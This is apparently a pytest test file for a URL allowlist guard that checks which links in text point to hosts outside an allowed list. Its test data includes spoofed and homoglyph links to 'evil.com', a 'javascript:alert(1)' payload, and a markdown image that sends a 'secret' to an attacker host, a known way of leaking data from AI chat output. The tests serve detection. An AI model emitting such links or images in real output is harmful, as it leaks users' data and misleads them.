import pytest

from llmops.core.errors import InputError
from llmops.guard.checks.urls import Urls
from llmops.guard.normalise.reading import Reading

CHECK = Urls(allow=("example.com", "*.example.org"))


def found(text: str) -> list[str]:
    return [text[f.start : f.end] for f in CHECK.find(Reading(text))]


@pytest.mark.parametrize(
    "link",
    ["https://example.com/a?b=c", "http://docs.example.org", "https://EXAMPLE.com.", "https://example.com:443/x"],
)  # fmt: skip
def test_links_to_listed_hosts_are_left_alone(link: str) -> None:
    assert found(f"see {link} or ({link})") == []


@pytest.mark.parametrize(
    "link",
    [
        "https://evil.com", "https://example.com@evil.com/x", "https://example.com.evil.com", "https://evil.com\\@example.com",
        "https://ехample.com", "javascript:alert(1)", "data:text/html,hi", "ftp://example.com", "www.evil.com", "https://example.org",
        "https://[::1", "HTTPS://EVIL.COM",
    ],
)  # fmt: skip
def test_other_links_are_found(link: str) -> None:
    assert found(f"see {link} now") == [link]


def test_an_image_that_carries_data_away_is_found() -> None:
    assert found("![x](//evil.com/?q=secret)") == ["](//evil.com/?q=secret)"]


def test_prose_with_colons_is_no_link() -> None:
    assert found("note: this, and that: std::vector at 12:30") == []


def test_what_is_no_host_is_refused() -> None:
    with pytest.raises(InputError, match=r"'https://example.com' is no host\nWrite allow"):
        Urls(allow=("https://example.com",))
